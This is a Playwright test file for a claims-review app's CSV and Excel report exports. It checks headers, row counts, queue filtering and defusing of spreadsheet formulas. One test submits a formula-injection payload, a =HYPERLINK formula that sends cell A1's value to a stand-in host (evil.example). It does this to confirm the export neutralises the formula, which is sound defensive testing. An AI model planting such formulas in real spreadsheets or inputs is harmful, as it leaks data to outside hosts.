/**
 * Reports: the decision history and the SLA status download as CSV (UTF-8 with BOM, RFC 4180)
 * with hostile text kept intact but defused, and filtered as the queue is filtered on screen.
 */
import { readFile } from 'node:fs/promises';

import { expect, test, type Page } from '@playwright/test';
import { strFromU8, unzipSync } from 'fflate';
import { parseCsv, UTF8_BOM } from '../../renderer/src/reports/csv';
import { actAsReviewer, takeClaim } from './support/api';
import { signIn } from './support/ui';

async function exportFile(page: Page): Promise<{ name: string; bytes: Buffer }> {
  const reports = page.getByRole('main');
  const downloading = page.waitForEvent('download');
  await reports.getByRole('button', { name: 'Export' }).click();
  const download = await downloading;
  const path = await download.path();
  await expect(reports.getByRole('status')).toContainText(/Saved \d+ rows?|Saved an empty report/);
  return { name: download.suggestedFilename(), bytes: await readFile(path) };
}

async function exportCsv(page: Page): Promise<{ name: string; text: string }> {
  const { name, bytes } = await exportFile(page);
  return { name, text: bytes.toString('utf8') };
}

test('decision history as CSV: who, when, why, with hostile text defused and intact', async ({ page }) => {
  const claim = await takeClaim((c) => c.status === 'in_review' && c.assignee !== null);
  const message = '=HYPERLINK("http://evil.example/?q="&A1,"Open"), then "quoted", and\na second line';
  await actAsReviewer(claim.assignee!, [
    { type: 'reject', claimId: claim.id, reasons: ['insufficient_poe', 'missing_product'], message },
  ]);

  await signIn(page, 'supervisor');
  await page.getByRole('navigation', { name: 'Workstation' }).getByRole('link', { name: 'Reports' }).click();
  const main = page.getByRole('main');
  await expect(main.getByRole('heading', { level: 1, name: 'Reports' })).toBeFocused();
  await main.getByRole('radio', { name: /^Decision history/ }).check();
  const today = new Date().toLocaleDateString('en-CA'); // YYYY-MM-DD in the browser's zone (same TZ as the test)
  await main.getByLabel('From', { exact: true }).fill(today);
  await main.getByLabel('To', { exact: true }).fill(today);
  // The supervisor's queue shows "My claims"; this report is about every claim.
  await main.getByRole('checkbox', { name: 'Only claims shown in the queue' }).uncheck();
  await main.getByRole('radio', { name: /^CSV/ }).check();

  const { name, text } = await exportCsv(page);
  expect(name).toBe(`decision-history_${today}_${today}.csv`);
  expect(text.startsWith(UTF8_BOM)).toBe(true);
  expect(text).toContain('\r\n');
  const [header, ...rows] = parseCsv(text);
  expect(header).toEqual([
    'When (UTC)',
    'When (local time)',
    'Claim ID',
    'Partner ID',
    'Partner',
    'Customer',
    'Decision',
    'Event code',
    'By',
    'Role',
    'Reasons or deficiencies',
    'Reason or deficiency codes',
    'Message',
  ]);
  expect(rows.every((r) => r.length === header!.length)).toBe(true);
  const rejection = rows.find((r) => r[2] === claim.id && r[7] === 'rejected');
  expect(rejection).toBeDefined();
  expect(rejection![0]).toMatch(new RegExp(`^${new Date().toISOString().slice(0, 10)}T|^\\d{4}-\\d\\d-\\d\\dT`));
  expect(rejection![6]).toBe('Rejected');
  expect(rejection![8]).toBe(claim.assignee);
  expect(rejection![10]).toBe('Insufficient proof of execution; The claimed product is not supported by the PoE');
  expect(rejection![11]).toBe('insufficient_poe;missing_product');
  // Quotes, commas and the line break survive; the leading "=" no longer starts a formula.
  expect(rejection![12]).toBe(`'${message}`);
});

test('SLA status as CSV holds exactly the claims the queue shows', async ({ page }) => {
  await signIn(page, 'supervisor');
  const main = page.getByRole('main');
  await main.getByRole('tab', { name: /^All/ }).click();
  await main.getByLabel('Status').selectOption({ label: 'Under review' });
  const grid = main.getByRole('grid', { name: 'Claims' });
  await expect(grid).toHaveAttribute('aria-busy', 'false');
  await expect(grid.getByRole('row').nth(1)).toContainText('Under review');
  const count = main.getByText(/^Showing [\d,]+ of [\d,]+ claims$/);
  await expect(count).toBeVisible();
  const shown = Number(/^Showing ([\d,]+)/.exec((await count.textContent()) ?? '')![1]!.replace(/,/g, ''));
  expect(shown).toBeGreaterThan(0);

  await page.getByRole('navigation', { name: 'Workstation' }).getByRole('link', { name: 'Reports' }).click();
  await expect(main.getByRole('checkbox', { name: 'Only claims shown in the queue' })).toBeChecked();
  await expect(main).toContainText('view “All”, Status: Under review');
  await main.getByLabel('From', { exact: true }).fill('2000-01-01');

  const { name, text } = await exportCsv(page);
  expect(name).toMatch(/^sla-status_2000-01-01_\d{4}-\d\d-\d\d\.csv$/);
  const [header, ...rows] = parseCsv(text);
  expect(header!.slice(0, 9)).toEqual(['Claim ID', 'Partner ID', 'Partner', 'Customer', 'Tenant ID', 'Status', 'Status code', 'Assignee', 'First submitted (UTC)']);
  expect(header).toContain('Review: remaining (business days)');
  // Every claim under review was open in the period: the report holds exactly what the queue showed.
  expect(rows.length).toBe(shown);
  expect(new Set(rows.map((r) => r[6]))).toEqual(new Set(['in_review']));
  const review = header!.indexOf('Review: level');
  expect(rows.every((r) => ['On track', 'At risk', 'Breached'].includes(r[review]!))).toBe(true);

  // The same report as an Excel workbook.
  await main.getByRole('radio', { name: 'Excel workbook (.xlsx)' }).check();
  const xlsx = await exportFile(page);
  expect(xlsx.name).toMatch(/^sla-status_2000-01-01_\d{4}-\d\d-\d\d\.xlsx$/);
  const files = unzipSync(new Uint8Array(xlsx.bytes));
  expect(strFromU8(files['xl/workbook.xml']!)).toContain('name="SLA status"');
  expect(strFromU8(files['xl/sharedStrings.xml']!)).toContain('<t>Review: remaining (business days)</t>');
  expect(strFromU8(files['xl/worksheets/sheet1.xml']!).match(/<row /g)).toHaveLength(shown + 1);
});
